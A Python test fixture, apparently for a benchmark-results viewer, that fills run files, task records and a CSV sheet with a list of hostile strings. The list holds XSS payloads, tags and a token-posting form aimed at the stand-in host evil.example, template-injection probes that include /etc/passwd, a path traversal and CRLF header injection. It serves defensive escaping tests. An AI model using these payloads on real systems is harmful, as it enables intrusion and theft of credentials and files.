"""Texts that try to be more than text, and run folders that have one of them wherever a text may stand."""

from __future__ import annotations

import csv
import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any, Final

HOSTILE: Final = (
    "<script>document.title='owned';window.owned=1</script>",
    "</script><script>window.owned=1</script>",
    "<img src=x onerror=window.owned=1>",
    "<svg onload=window.owned=1>",
    "<svg><script href=data:,window.owned=1 />",
    "\"><script>window.owned=1</script>",
    "'><script>window.owned=1</script>",
    "\" onmouseover=\"window.owned=1\" x=\"",
    "' onfocus='window.owned=1' autofocus x='",
    "` onclick=window.owned=1 `",
    "javascript:window.owned=1",
    "data:text/html,<script>window.owned=1</script>",
    "<a href=javascript:window.owned=1>x</a>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>parent.owned=1</script>'>",
    "<object data=https://evil.example>",
    "<embed src=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example'</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta http-equiv=Content-Security-Policy content=''>",
    "<form action=https://evil.example><input name=token>",
    "<input autofocus onfocus=window.owned=1>",
    "<details open ontoggle=window.owned=1>",
    "<video><source onerror=window.owned=1>",
    "<math><mtext></p><style><img src=x onerror=window.owned=1>",
    "<template><img src=x onerror=window.owned=1></template>",
    "<textarea><script>window.owned=1</script>",
    "</textarea></title></style></xmp><script>window.owned=1</script>",
    "</main></body></html><script>window.owned=1</script>",
    "</div></section></table><h1>owned</h1>",
    "<!-- ", "--><script>window.owned=1</script>", "<![CDATA[<script>window.owned=1</script>]]>",
    "<?php echo 1 ?>",
    "{{7*7}}{% raw %}", "${7*7}#{7*7}", "{{ self.__init__.__globals__ }}", "{% include '/etc/passwd' %}",
    "&lt;script&gt;window.owned=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.owned=1&#62;",
    "\u202e<script>\u2066window.owned=1",
    "\u0000<script>window.owned=1</script>",
    "\ufeff<\u200bscript>",
    "＜script＞window.owned=1＜/script＞",
    "\ud800<script>",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢" * 8,
    "constructor", "__proto__", "toString",
    "../../../../etc/passwd", "x" * 20_000,
    "\r\nSet-Cookie: owned=1\r\n\r\n<script>window.owned=1</script>",
)  # fmt: skip
#: Fields whose words shape what is read; everything else is somebody's text.
_KEPT: Final = frozenset(
    {
        *("schema", "exit_code", "status", "unit", "repeat", "attempt", "started_at", "finished_at"),
        *("loader", "grader", "aggregator", "headline", "adapter", "provider", "mode", "on_failure", "vote"),
        *("dates", "cost_source", "index", "control_hosts", "fail_on", "progress", "retry", "weights", "form"),
        *("path", "profile", "coverage_floor", "kind", "source", "base_url", "api_key_env", "output_schema"),
    }
)
#: The texts of a rubric or a tree; the rest is its shape, without which there would be nothing to show.
_WORDS: Final = frozenset({"text", "title", "requirement", "question", "description"})
_TEXT_KEYS: Final = frozenset({"groups", "labels", "coverage_by", "settings", "submissions", "errors", "rows"})


def poisoned(value: Any, text: str, kept: frozenset[str] = _KEPT, *, is_keys: bool = False) -> Any:
    """The value with `text` for every text in it but in `kept` fields, and for every name that a run may choose."""
    if isinstance(value, str):
        return text
    if isinstance(value, list):
        return [poisoned(item, text, kept) for item in value]
    if isinstance(value, Mapping):
        return {
            (f"{text}{place}" if is_keys else key): item
            if key in kept
            else poisoned(item, text, kept, is_keys=key in _TEXT_KEYS)
            for place, (key, item) in enumerate(value.items())
        }
    return value


def poison_run(source: Path, target: Path, text: str) -> None:
    """A run folder like another, with `text` for its texts. Tasks keep names that differ, with `text` in each."""
    target.mkdir(parents=True)
    for name in ("run.json", "summary.json"):
        content = json.loads((source / name).read_text(encoding="utf-8"))
        changed = poisoned(content, text)
        if name == "run.json":  # what shapes the fold stays, so that scores are explained
            changed["config"]["benchmark"] = {**content["config"]["benchmark"], "name": text}
            changed["config"]["pages"] = content["config"]["pages"]
        (target / name).write_text(json.dumps(changed), encoding="utf-8")
    whole = text.encode("utf-8", "replace").decode()  # a benchmark refuses half characters
    for name, key in (
        ("tasks.jsonl", "id"),
        ("scores.jsonl", "task_id"),
        ("submissions.jsonl", "task_id"),
        ("judgements.jsonl", "task_id"),
    ):
        lines = []
        for line in (source / name).read_text(encoding="utf-8").splitlines():
            row = json.loads(line)
            changed = {**poisoned(row, text), key: f"{text} {row[key]}"}
            if "payload" in row:
                changed["payload"] = _worded(row["payload"], whole)
            if "files" in row:
                changed["files"] = {file: _records(content, whole) for file, content in row["files"].items()}
            lines.append(json.dumps(changed) + "\n")
        (target / name).write_text("".join(lines), encoding="utf-8")


def _worded(value: Any, text: str) -> Any:
    """A payload with `text` for its words."""
    if isinstance(value, list):
        return [_worded(item, text) for item in value]
    if isinstance(value, Mapping):
        return {
            key: text if key in _WORDS and isinstance(item, str) else _worded(item, text)
            for key, item in value.items()
        }
    return value


def _records(content: str, text: str) -> str:
    """A file of records with `text` in each, of addresses that can be read."""
    lines = []
    for line in content.splitlines():
        try:
            lines.append(json.dumps(poisoned(json.loads(line), text, frozenset({"url"}))))
        except ValueError:
            lines.append(text)
    return "\n".join(lines)


def poison_sheet(path: Path, text: str) -> None:
    """A sheet with `text` in every cell."""
    columns = ["id", "run", "task_id", "attempt", "unit", "check", "kind", "prompt", "asked", "shown", "note",
               "label", "labeller", "comment", "weight"]  # fmt: skip
    with path.open("w", encoding="utf-8", errors="surrogatepass", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(columns)
        writer.writerow([text] * len(columns))
